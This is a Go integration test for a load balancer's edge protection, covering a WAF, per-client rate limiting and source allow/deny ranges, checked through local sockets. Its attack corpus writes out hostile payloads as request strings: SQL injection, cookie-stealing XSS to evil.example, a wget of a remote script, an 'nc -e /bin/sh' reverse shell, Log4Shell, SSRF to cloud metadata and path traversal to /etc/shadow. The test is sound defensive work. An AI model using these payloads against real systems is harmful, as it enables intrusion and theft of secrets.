package scenarios

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// The edge protection scenario's addresses: the VIP, and clients on
// other loopback addresses (Linux answers the whole 127/8): one inside
// allowedSources, a second inside it for the per-client rate limit, one
// inside it but denied, one outside it.
const (
	edgeVIP       = "127.0.0.91"
	edgeAllowed   = "127.36.0.0/24"
	edgeClient    = "127.36.0.1"
	edgeNeighbour = "127.36.0.2"
	edgeDenied    = "127.36.0.9"
	edgeOutside   = "127.36.1.1"
)

// edgeRequest is one request of the WAF corpus.
type edgeRequest struct{ method, target, ctype, body string }

// edgeAttacks are attacks of each Core Rule Set family (written from the
// rule documentation: SQL injection, XSS, path traversal, command
// injection, remote file inclusion and PHP injection, Log4Shell, SSRF
// and protocol attacks) that paranoia level 1 rejects.
var edgeAttacks = []edgeRequest{
	{"GET", "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", "", ""},
	{"GET", "/item?id=1%27%20AND%20SLEEP(5)--%20-", "", ""},
	{"POST", "/login", "application/x-www-form-urlencoded", "user=admin%27--&pass=x"},
	{"GET", "/q?s=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E", "", ""},
	{"GET", "/q?s=javascript:alert(1)", "", ""},
	{"POST", "/comment", "application/x-www-form-urlencoded", "text=%3Cscript%3Efetch('//evil.example/'%2Bdocument.cookie)%3C/script%3E"},
	{"GET", "/download?file=....//....//etc/shadow", "", ""},
	{"GET", "/static/..%2f..%2f..%2fproc/self/environ", "", ""},
	{"GET", "/ping?host=%60wget%20http://evil.example/x.sh%60", "", ""},
	{"POST", "/exec", "application/x-www-form-urlencoded", "cmd=%7C%20nc%20-e%20/bin/sh%20evil.example%204444"},
	{"GET", "/page?lang=php://filter/convert.base64-encode/resource=index", "", ""},
	{"GET", "/page?x=%3C?php%20system($_GET['c']);%20?%3E", "", ""},
	{"GET", "/log?u=$%7Bjndi:ldap://evil.example/a%7D", "", ""},
	{"GET", "/?url=http://169.254.169.254/latest/meta-data/", "", ""},
	{"GET", "/?a=1%0d%0aSet-Cookie:%20session=evil", "", ""},
}

// edgeOrdinary is ordinary traffic that must pass.
var edgeOrdinary = []edgeRequest{
	{"GET", "/", "", ""},
	{"GET", "/shop/items?id=42&sort=price&order=asc", "", ""},
	{"GET", "/search?q=blue+running+shoes&page=2", "", ""},
	{"GET", "/api/v1/users/7/orders?limit=20", "", ""},
	{"GET", "/blog/2026/11/why-we-moved-to-bare-metal", "", ""},
	{"GET", "/static/app.3f2a1c.js", "", ""},
	{"POST", "/api/v1/orders", "application/json", `{"item":42,"quantity":2,"note":"leave at the door"}`},
	{"POST", "/contact", "application/x-www-form-urlencoded", "name=Ada+Lovelace&email=ada%40example.com&message=Hello%2C+when+do+you+open%3F"},
	{"GET", "/maps?lat=51.5072&lon=-0.1276&zoom=12", "", ""},
	{"GET", "/docs/select-a-plan", "", ""},
	{"POST", "/api/v1/search", "application/json", `{"query":"select a size","filters":{"color":["red","blue"]}}`},
	{"GET", "/account/settings?tab=notifications", "", ""},
}

// edgeHTTPClient is an HTTP client whose connections leave from the
// loopback address src.
func edgeHTTPClient(src string) *http.Client {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}, Timeout: 5 * time.Second}
	return &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: d.DialContext, MaxIdleConnsPerHost: 4}}
}

// edgeDo sends one corpus request as a browser would and returns its
// status and headers.
func edgeDo(cl *http.Client, base string, r edgeRequest) (int, http.Header, error) {
	req, err := http.NewRequest(r.method, base+r.target, strings.NewReader(r.body))
	if err != nil {
		return 0, nil, err
	}
	req.Host = "shop.example"
	req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
	req.Header.Set("Accept", "text/html,application/json")
	if r.ctype != "" {
		req.Header.Set("Content-Type", r.ctype)
	}
	resp, err := cl.Do(req)
	if err != nil {
		return 0, nil, err
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp.StatusCode, resp.Header, nil
}

// edgeMember is an HTTP member counting the requests that reach it.
func edgeMember(t *testing.T) (string, *atomic.Int64) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var n atomic.Int64
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n.Add(1)
		_, _ = io.Copy(io.Discard, r.Body)
		_, _ = io.WriteString(w, "hello, world\n")
	})}
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() { _ = srv.Close() })
	return l.Addr().String(), &n
}

// edgeEcho is a TCP echo member counting the connections it accepts.
func edgeEcho(t *testing.T) (string, *atomic.Int64) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	var n atomic.Int64
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			n.Add(1)
			go func() { defer c.Close(); _, _ = io.Copy(c, c) }()
		}
	}()
	return l.Addr().String(), &n
}

// edgeEchoOnce connects from src, sends a line and returns what comes
// back (an error when the connection is refused, reset or closed).
func edgeEchoOnce(src, addr string) (string, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}, Timeout: 5 * time.Second}
	c, err := d.Dial("tcp", addr)
	if err != nil {
		return "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := io.WriteString(c, "ping\n"); err != nil {
		return "", err
	}
	buf := make([]byte, 5)
	if _, err := io.ReadFull(c, buf); err != nil {
		return "", err
	}
	return string(buf), nil
}

// metricOf returns the sum of the host's samples of name whose labels
// include want.
func metricOf(t *testing.T, n *node, name string, want map[string]string) float64 {
	t.Helper()
	m, err := scrape(n)
	if err != nil {
		t.Fatal(err)
	}
	var sum float64
	for _, s := range m[name] {
		ok := true
		for k, v := range want {
			ok = ok && s.labels[k] == v
		}
		if ok {
			sum += s.value
		}
	}
	return sum
}

// refusedBy returns the host's connections_refused_total of the reason.
func refusedBy(t *testing.T, n *node, reason string) float64 {
	t.Helper()
	m, err := scrape(n)
	if err != nil {
		t.Fatal(err)
	}
	var sum float64
	for _, s := range m["teapot_lb_connections_refused_total"] {
		if s.labels["reason"] == reason && s.labels["lb"] == "shop/edge" {
			sum += s.value
		}
	}
	return sum
}

// TestEdgeProtection drives `teapot-lb serve` with a load balancer that
// declares source ranges on an http and a tcp listener, a per-client rate
// limit on one route and the WAF (block, paranoia 1) on another, and
// attacks it from several loopback addresses through real sockets: the
// corpus of attacks is answered 403 without reaching the member and
// ordinary requests are served; past the rate limit a client gets 429
// with Retry-After and RateLimit fields while its neighbour is served;
// a denied source and one outside the allowed range get no HTTP answer
// and no echo, cost the members nothing and are counted as refused
// (reason source).
func TestEdgeProtection(t *testing.T) {
	if testing.Short() {
		t.Skip("-short: starts a cluster")
	}
	web, served := edgeMember(t)
	echo, echoed := edgeEcho(t)
	port := freePortOn(t, edgeVIP)
	tcpPort := freePortOn(t, edgeVIP)
	const rps = 5
	manifest := fmt.Sprintf(`
kind: VIPPool
name: edge
cidrs: [%[1]s/32]
mode: static
---
kind: Tenant
name: shop
domains: [shop.example]
networks: [127.0.0.1/32]
pools: [edge]
quotas: { wafCpuMillicores: 1000 }
---
kind: LoadBalancer
name: edge
tenant: shop
vip: { pool: edge, address: "%[1]s" }
listeners:
  - port: %[2]d
    protocol: http
    allowedSources: [%[4]s]
    deniedSources: [%[5]s/32]
  - port: %[3]d
    protocol: tcp
    pool: echo
    allowedSources: [%[4]s]
    deniedSources: [%[5]s/32]
routes:
  - { path: /limited, pool: web, rateLimit: { requestsPerSecond: %[8]d, burst: %[8]d } }
  - { path: /legacy, pool: web, waf: { mode: block, excludeRules: [942100, 942190, 942270, 942360] } }
  - { path: /, pool: web, waf: { mode: block, paranoiaLevel: 1 } }
pools:
  web: { members: ["%[6]s"] }
  echo: { members: ["%[7]s"] }
`, edgeVIP, port, tcpPort, edgeAllowed, edgeDenied, web, echo, rps)
	c := newCluster(t)
	n := c.bootstrap()
	path := filepath.Join(c.dir, "edge.yaml")
	if err := os.WriteFile(path, []byte(manifest), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := c.cli(n, "apply", "-f", path); err != nil {
		t.Fatalf("apply: %v\n%s", err, out)
	}
	base := "http://" + net.JoinHostPort(edgeVIP, strconv.Itoa(port))
	tcpAddr := net.JoinHostPort(edgeVIP, strconv.Itoa(tcpPort))
	client := edgeHTTPClient(edgeClient)
	waitFor(t, startTimeout, "the load balancer to serve", func() error {
		code, _, err := edgeDo(client, base, edgeRequest{"GET", "/", "", ""})
		if err != nil {
			return err
		}
		if code != 200 {
			return fmt.Errorf("GET /: %d", code)
		}
		return nil
	})

	t.Run("waf", func(t *testing.T) {
		before := served.Load()
		for _, a := range edgeAttacks {
			code, _, err := edgeDo(client, base, a)
			if err != nil {
				t.Fatalf("%s %s: %v", a.method, a.target, err)
			}
			if code != http.StatusForbidden {
				t.Errorf("attack %s %s: %d, want 403", a.method, a.target, code)
			}
		}
		if got := served.Load() - before; got != 0 {
			t.Errorf("%d attacks reached the member", got)
		}
		for _, o := range edgeOrdinary {
			code, _, err := edgeDo(client, base, o)
			if err != nil {
				t.Fatalf("%s %s: %v", o.method, o.target, err)
			}
			if code != 200 {
				t.Errorf("ordinary %s %s: %d, want 200", o.method, o.target, code)
			}
		}
		if got := served.Load() - before; got != int64(len(edgeOrdinary)) {
			t.Errorf("the member served %d ordinary requests, want %d", got, len(edgeOrdinary))
		}
		// The verdicts are in the host's metrics (the readiness probe
		// above passed the rules too).
		if got := metricOf(t, n, "teapot_lb_waf_requests_total", map[string]string{"tenant": "shop", "verdict": "blocked"}); got != float64(len(edgeAttacks)) {
			t.Errorf("teapot_lb_waf_requests_total{verdict=blocked} = %v, want %d", got, len(edgeAttacks))
		}
		if got := metricOf(t, n, "teapot_lb_waf_requests_total", map[string]string{"tenant": "shop", "verdict": "passed"}); got < float64(len(edgeOrdinary)) {
			t.Errorf("teapot_lb_waf_requests_total{verdict=passed} = %v, want >= %d", got, len(edgeOrdinary))
		}
		// A route that excludes the rules an attack trips (as a tenant
		// excludes a false positive's) serves it; other attacks are
		// still blocked there.
		if code, _, err := edgeDo(client, base, edgeRequest{"GET", "/legacy" + edgeAttacks[0].target, "", ""}); err != nil || code != 200 {
			t.Errorf("GET /legacy%s with its rules excluded: %d %v, want 200", edgeAttacks[0].target, code, err)
		}
		if code, _, err := edgeDo(client, base, edgeRequest{"GET", "/legacy" + edgeAttacks[3].target, "", ""}); err != nil || code != 403 {
			t.Errorf("GET /legacy%s: %d %v, want 403", edgeAttacks[3].target, code, err)
		}
	})

	t.Run("rate limit", func(t *testing.T) {
		// Three times the burst at once: the burst is served, the rest
		// is answered 429 (a refill during the loop may let one more by).
		var ok, limited int
		var hdr http.Header
		for range 3 * rps {
			code, h, err := edgeDo(client, base, edgeRequest{"GET", "/limited", "", ""})
			if err != nil {
				t.Fatal(err)
			}
			switch code {
			case 200:
				ok++
			case http.StatusTooManyRequests:
				limited++
				hdr = h
			default:
				t.Fatalf("GET /limited: %d", code)
			}
		}
		if ok < rps || ok > 2*rps || limited == 0 {
			t.Fatalf("%d served and %d limited of %d, want the burst of %d served and the rest limited", ok, limited, 3*rps, rps)
		}
		ra, err := strconv.Atoi(hdr.Get("Retry-After"))
		if err != nil || ra < 1 {
			t.Errorf("Retry-After %q, want whole seconds >= 1", hdr.Get("Retry-After"))
		}
		if hdr.Get("RateLimit-Limit") != strconv.Itoa(rps) || hdr.Get("RateLimit-Remaining") != "0" || hdr.Get("RateLimit-Reset") == "" {
			t.Errorf("RateLimit fields %q %q %q", hdr.Get("RateLimit-Limit"), hdr.Get("RateLimit-Remaining"), hdr.Get("RateLimit-Reset"))
		}
		if got := metricOf(t, n, "teapot_lb_rate_limited_total", map[string]string{"tenant": "shop", "cause": "limit"}); got != float64(limited) {
			t.Errorf("teapot_lb_rate_limited_total{cause=limit} = %v, want %d", got, limited)
		}
		// The limit is per client: the neighbour is served meanwhile.
		code, _, err := edgeDo(edgeHTTPClient(edgeNeighbour), base, edgeRequest{"GET", "/limited", "", ""})
		if err != nil || code != 200 {
			t.Errorf("the neighbour's GET /limited: %d %v, want 200", code, err)
		}
		// Other routes are not limited.
		if code, _, err := edgeDo(client, base, edgeRequest{"GET", "/", "", ""}); err != nil || code != 200 {
			t.Errorf("GET / while /limited is limited: %d %v", code, err)
		}
	})

	t.Run("sources", func(t *testing.T) {
		if got, err := edgeEchoOnce(edgeClient, tcpAddr); err != nil || got != "ping\n" {
			t.Fatalf("allowed client over tcp: %q %v", got, err)
		}
		webBefore, echoBefore := served.Load(), echoed.Load()
		refused0 := refusedBy(t, n, "source")
		for _, src := range []string{edgeDenied, edgeOutside} {
			if code, _, err := edgeDo(edgeHTTPClient(src), base, edgeRequest{"GET", "/", "", ""}); err == nil {
				t.Errorf("http from %s: answered %d, want the connection refused", src, code)
			}
			if got, err := edgeEchoOnce(src, tcpAddr); err == nil {
				t.Errorf("tcp from %s: echoed %q, want the connection refused", src, got)
			}
		}
		if w, e := served.Load()-webBefore, echoed.Load()-echoBefore; w != 0 || e != 0 {
			t.Errorf("refused sources reached the members: %d requests, %d connections", w, e)
		}
		// Each refused connection is counted (the client may retry an
		// idempotent request on a new connection: at least 4).
		waitFor(t, 10*time.Second, "the refusals to be counted", func() error {
			if got := refusedBy(t, n, "source") - refused0; got < 4 {
				return fmt.Errorf("connections_refused_total{reason=source} grew by %v, want >= 4", got)
			}
			return nil
		})
		// The allowed client is still served on both listeners.
		if code, _, err := edgeDo(client, base, edgeRequest{"GET", "/", "", ""}); err != nil || code != 200 {
			t.Errorf("allowed client after the refusals: %d %v", code, err)
		}
	})
}
